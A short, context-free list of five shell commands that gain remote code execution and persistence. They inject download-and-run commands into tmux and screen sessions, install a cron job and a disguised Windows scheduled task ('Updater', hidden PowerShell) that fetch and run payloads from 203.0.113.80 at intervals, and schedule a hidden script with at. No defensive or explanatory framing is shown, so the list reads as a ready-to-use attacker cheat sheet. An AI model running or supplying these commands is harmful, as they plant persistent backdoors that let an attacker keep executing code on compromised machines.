tmux send-keys -t main:0 'curl -s http://203.0.113.80/k | sh' Enter
screen -S ops -X stuff "wget -qO- http://203.0.113.80/k | bash\n"
(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://203.0.113.80/k.sh | bash') | crontab -
echo "sh /var/tmp/.cache/run.sh" | at now + 2 minutes
schtasks /create /tn Updater /tr "powershell -w hidden -c iex(irm http://203.0.113.80/u)" /sc minute /mo 15
